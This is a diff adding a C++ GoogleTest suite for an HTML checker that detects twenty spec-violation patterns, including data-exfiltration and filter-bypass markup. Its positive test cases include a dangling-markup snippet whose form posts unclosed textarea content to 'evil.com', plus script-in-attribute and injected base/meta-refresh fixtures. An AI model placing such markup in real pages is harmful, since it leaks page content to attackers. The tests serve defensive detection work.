@@ -1,0 +1,297 @@
+// Checker tests: every one of the paper's twenty violations has at least
+// one positive and one negative case, plus taxonomy and result-shape
+// tests.  The parameterized sweeps double as the rule-correctness
+// validation the paper did by manual review (section 3.3).
+#include "core/checker.h"
+
+#include <gtest/gtest.h>
+
+#include "core/violation.h"
+
+namespace hv::core {
+namespace {
+
+const Checker& checker() {
+  static const Checker instance;
+  return instance;
+}
+
+std::string page(std::string_view head, std::string_view body) {
+  std::string out = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n"
+                    "<meta charset=\"utf-8\">\n<title>t</title>\n";
+  out += head;
+  out += "</head>\n<body>\n";
+  out += body;
+  out += "\n</body>\n</html>\n";
+  return out;
+}
+
+// --- taxonomy -----------------------------------------------------------------
+
+TEST(ViolationTaxonomy, TableHasTwentyEntries) {
+  EXPECT_EQ(all_violations().size(), 20u);
+}
+
+TEST(ViolationTaxonomy, NamesRoundTrip) {
+  for (const ViolationInfo& entry : all_violations()) {
+    const auto parsed = violation_from_name(entry.name);
+    ASSERT_TRUE(parsed.has_value()) << entry.name;
+    EXPECT_EQ(*parsed, entry.id);
+  }
+  EXPECT_FALSE(violation_from_name("XX9").has_value());
+}
+
+TEST(ViolationTaxonomy, GroupsMatchPrefixes) {
+  for (const ViolationInfo& entry : all_violations()) {
+    const std::string_view name = entry.name;
+    if (name.starts_with("DE")) {
+      EXPECT_EQ(entry.group, ProblemGroup::kDataExfiltration) << name;
+    } else if (name.starts_with("DM")) {
+      EXPECT_EQ(entry.group, ProblemGroup::kDataManipulation) << name;
+    } else if (name.starts_with("HF")) {
+      EXPECT_EQ(entry.group, ProblemGroup::kHtmlFormatting) << name;
+    } else {
+      EXPECT_EQ(entry.group, ProblemGroup::kFilterBypass) << name;
+    }
+  }
+}
+
+TEST(ViolationTaxonomy, AutoFixablePerSection44) {
+  // FB and DM are automatable; HF and DE are not (paper section 4.4).
+  for (const ViolationInfo& entry : all_violations()) {
+    const bool expected = entry.group == ProblemGroup::kFilterBypass ||
+                          entry.group == ProblemGroup::kDataManipulation;
+    EXPECT_EQ(entry.auto_fixable, expected) << entry.name;
+  }
+}
+
+TEST(ViolationTaxonomy, CategoriesMatchSection32) {
+  EXPECT_EQ(info(Violation::kDE1).category,
+            ViolationCategory::kDefinitionViolation);
+  EXPECT_EQ(info(Violation::kDM1).category,
+            ViolationCategory::kDefinitionViolation);
+  EXPECT_EQ(info(Violation::kHF1).category,
+            ViolationCategory::kDefinitionViolation);
+  EXPECT_EQ(info(Violation::kFB1).category,
+            ViolationCategory::kParsingError);
+  EXPECT_EQ(info(Violation::kDM3).category,
+            ViolationCategory::kParsingError);
+  EXPECT_EQ(info(Violation::kDE3_1).category,
+            ViolationCategory::kParsingError);
+}
+
+TEST(Checker, HasTwentyPlusRules) {
+  EXPECT_GE(checker().rule_count(), 20u);
+}
+
+// --- per-violation positive cases -----------------------------------------------
+
+struct ViolationCase {
+  const char* label;
+  Violation violation;
+  std::string html;
+};
+
+class DetectsViolation : public ::testing::TestWithParam<ViolationCase> {};
+
+TEST_P(DetectsViolation, Positive) {
+  const CheckResult result = checker().check(GetParam().html);
+  EXPECT_TRUE(result.has(GetParam().violation))
+      << GetParam().label << " should trigger "
+      << to_string(GetParam().violation);
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Positives, DetectsViolation,
+    ::testing::Values(
+        ViolationCase{"de1_textarea_eof", Violation::kDE1,
+                      page("", "<form action=\"https://evil.com\">"
+                               "<input type=\"submit\"><textarea>\n"
+                               "<p>My little secret</p>")},
+        ViolationCase{"de2_select_eof", Violation::kDE2,
+                      page("", "<select name=\"c\"><option>G")},
+        ViolationCase{"de3_1_dangling_url", Violation::kDE3_1,
+                      page("", "<img src=\"/b?c=1\n<em>x</em\" alt=\"\">")},
+        ViolationCase{"de3_2_script_in_attr", Violation::kDE3_2,
+                      page("", "<input type=\"hidden\" "
+                               "value='<script src=\"/w.js\"></script>'>")},
+        ViolationCase{"de3_3_newline_target", Violation::kDE3_3,
+                      page("", "<a href=\"/h\" target=\"\n_blank\">x</a>")},
+        ViolationCase{"de4_nested_form", Violation::kDE4,
+                      page("", "<form action=\"/a\"><form action=\"/b\">"
+                               "<input name=\"q\"></form></form>")},
+        ViolationCase{"dm1_meta_in_body", Violation::kDM1,
+                      page("", "<meta http-equiv=\"refresh\" "
+                               "content=\"0; URL=/n\">")},
+        ViolationCase{"dm2_1_base_in_body", Violation::kDM2_1,
+                      "<!DOCTYPE html><html><head><title>t</title></head>"
+                      "<body><base href=\"https://cdn.x/\"><p>y</p>"
+                      "</body></html>"},
+        ViolationCase{"dm2_2_two_bases", Violation::kDM2_2,
+                      "<!DOCTYPE html><html><head><base href=\"/\">"
+                      "<base target=\"_x\"><title>t</title></head>"
+                      "<body></body></html>"},
+        ViolationCase{"dm2_3_base_after_link", Violation::kDM2_3,
+                      "<!DOCTYPE html><html><head>"
+                      "<link rel=\"stylesheet\" href=\"/a.css\">"
+                      "<base href=\"/\"><title>t</title></head>"
+                      "<body></body></html>"},
+        ViolationCase{"dm3_duplicate_attr", Violation::kDM3,
+                      page("", "<img src=\"/a.png\" alt=\"x\" alt=\"y\">")},
+        ViolationCase{"hf1_div_in_head", Violation::kHF1,
+                      "<!DOCTYPE html><html><head><title>t</title>"
+                      "<div>modal</div><meta name=\"d\"></head>"
+                      "<body></body></html>"},
+        ViolationCase{"hf1_link_after_head", Violation::kHF1,
+                      "<!DOCTYPE html><html><head><title>t</title></head>"
+                      "<link rel=\"stylesheet\" href=\"/l.css\">"
+                      "<body></body></html>"},
+        ViolationCase{"hf1_implicit_head", Violation::kHF1,
+                      "<!DOCTYPE html><html lang=en><meta charset=utf-8>"
+                      "<title>404</title><body><p>x</p></body></html>"},
+        ViolationCase{"hf2_div_before_body", Violation::kHF2,
+                      "<!DOCTYPE html><html><head><title>t</title></head>"
+                      "<div id=\"fb-root\"></div><body><p>x</p>"
+                      "</body></html>"},
+        ViolationCase{"hf3_two_bodies", Violation::kHF3,
+                      "<!DOCTYPE html><html><head></head><body><p>x</p>"
+                      "<body class=\"b\"><p>y</p></body></html>"},
+        ViolationCase{"hf4_strong_in_row", Violation::kHF4,
+                      page("", "<table><tr><strong>T</strong></tr>"
+                               "<tr><td>a</td></tr></table>")},
+        ViolationCase{"hf4_text_in_table", Violation::kHF4,
+                      page("", "<table>caption<tr><td>a</td></tr></table>")},
+        ViolationCase{"hf5_1_stray_end", Violation::kHF5_1,
+                      page("", "<div>share</svg></div>")},
+        ViolationCase{"hf5_1_cdata", Violation::kHF5_1,
+                      page("", "<![CDATA[feed]]>")},
+        ViolationCase{"hf5_2_mismatch", Violation::kHF5_2,
+                      page("", "<svg><g><circle cx=\"1\"></g></svg>")},
+        ViolationCase{"hf5_2_breakout", Violation::kHF5_2,
+                      page("", "<span><svg><path d=\"M0 0\"/>"
+                               "<img src=\"/f.png\" alt=\"\"></span>")},
+        ViolationCase{"hf5_3_math", Violation::kHF5_3,
+                      page("", "<math><mrow><mn>1</mrow></math>")},
+        ViolationCase{"fb1_slash", Violation::kFB1,
+                      page("", "<img/src=\"/x.png\"/alt=\"y\">")},
+        ViolationCase{"fb2_glued", Violation::kFB2,
+                      page("", "<a href=\"/x\"class=\"btn\">go</a>")}),
+    [](const ::testing::TestParamInfo<ViolationCase>& info) {
+      return info.param.label;
+    });
+
+// --- negative cases: clean pages stay clean --------------------------------------
+
+class CleanPage : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(CleanPage, NoViolations) {
+  const CheckResult result = checker().check(GetParam());
+  std::string found;
+  for (const Finding& finding : result.findings) {
+    found += std::string(to_string(finding.violation)) + " ";
+  }
+  EXPECT_FALSE(result.violating()) << "unexpected: " << found;
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Negatives, CleanPage,
+    ::testing::Values(
+        "<!DOCTYPE html><html><head><meta charset=\"utf-8\">"
+        "<title>t</title></head><body><p>hello</p></body></html>",
+        // base first in head: fine.
+        "<!DOCTYPE html><html><head><base href=\"/\"><title>t</title>"
+        "<link rel=\"stylesheet\" href=\"/a.css\"></head><body>"
+        "<a href=\"/x\">l</a></body></html>",
+        // meta http-equiv inside head: fine.
+        "<!DOCTYPE html><html><head><meta http-equiv=\"refresh\" "
+        "content=\"30\"><title>t</title></head><body></body></html>",
+        // well-formed table.
+        "<!DOCTYPE html><html><head><title>t</title></head><body>"
+        "<table><tr><td><strong>T</strong></td></tr></table></body></html>",
+        // closed textarea + select.
+        "<!DOCTYPE html><html><head><title>t</title></head><body>"
+        "<form action=\"/f\"><textarea name=\"c\">x</textarea>"
+        "<select name=\"s\"><option>a</option></select></form>"
+        "</body></html>",
+        // clean svg + math.
+        "<!DOCTYPE html><html><head><title>t</title></head><body>"
+        "<svg viewBox=\"0 0 4 4\"><path d=\"M0 0h4\"/></svg>"
+        "<math><mi>x</mi><mo>=</mo><mn>1</mn></math></body></html>",
+        // attribute with a space: no FB2.
+        "<!DOCTYPE html><html><head><title>t</title></head><body>"
+        "<a href=\"/x\" class=\"btn\">go</a></body></html>"));
+
+// --- rule specificity: one injected mistake, exactly one violation family -----
+
+TEST(Checker, FindingsCarryPositions) {
+  const CheckResult result = checker().check(
+      page("", "<a href=\"/x\"class=\"btn\">go</a>"));
+  ASSERT_FALSE(result.findings.empty());
+  EXPECT_GT(result.findings[0].position.line, 1u);
+}
+
+TEST(Checker, GroupPredicates) {
+  const CheckResult result =
+      checker().check(page("", "<img src=\"a\" alt=\"1\" alt=\"2\">"));
+  EXPECT_TRUE(result.has_group(ProblemGroup::kDataManipulation));
+  EXPECT_FALSE(result.has_group(ProblemGroup::kDataExfiltration));
+}
+
+TEST(Checker, FullyAutoFixable) {
+  EXPECT_TRUE(checker()
+                  .check(page("", "<img src=\"a\" alt=\"1\" alt=\"2\">"))
+                  .fully_auto_fixable());
+  EXPECT_FALSE(checker()
+                   .check(page("", "<table>x<tr><td>a</td></tr></table>"))
+                   .fully_auto_fixable());
+  // Clean page: nothing to fix.
+  EXPECT_FALSE(checker().check(page("", "<p>x</p>")).fully_auto_fixable());
+}
+
+TEST(Checker, DistinctViolationsCounted) {
+  const CheckResult result = checker().check(page(
+      "", "<img/src=\"a\"/alt=\"b\"><a href=\"/x\"class=\"y\">l</a>"));
+  EXPECT_EQ(result.distinct_violations(), 2u);  // FB1 + FB2
+}
+
+TEST(Checker, ExtensibleWithCustomRule) {
+  class MarqueeRule final : public Rule {
+   public:
+    Violation id() const noexcept override { return Violation::kCount; }
+    void evaluate(const CheckContext& context,
+                  std::vector<Finding>& out) const override {
+      for (const AttributeRef& attr : context.attributes) {
+        if (attr.element->tag_name() == "marquee") {
+          out.push_back({Violation::kFB1, attr.element->start_position(),
+                         "marquee sighted"});
+        }
+      }
+    }
+  };
+  Checker extended;
+  extended.add_rule(std::make_unique<MarqueeRule>());
+  const CheckResult result =
+      extended.check(page("", "<marquee scrollamount=\"3\">hi</marquee>"));
+  EXPECT_TRUE(result.has(Violation::kFB1));
+}
+
+TEST(Checker, ReusingParseResultMatchesDirectCheck) {
+  const std::string html = page("", "<img src=\"a\" alt=\"1\" alt=\"2\">");
+  const html::ParseResult parsed = html::parse(html);
+  const CheckResult via_parse = checker().check(parsed, html);
+  const CheckResult direct = checker().check(html);
+  EXPECT_EQ(via_parse.present, direct.present);
+}
+
+TEST(Checker, CollectAttributesWalksTreeOrder) {
+  const html::ParseResult parsed = html::parse(
+      "<body><div id=\"1\"><span id=\"2\"></span></div><p id=\"3\"></p>");
+  const auto attrs = collect_attributes(*parsed.document);
+  ASSERT_EQ(attrs.size(), 3u);
+  EXPECT_EQ(attrs[0].value, "1");
+  EXPECT_EQ(attrs[1].value, "2");
+  EXPECT_EQ(attrs[2].value, "3");
+}
+
+}  // namespace
+}  // namespace hv::core
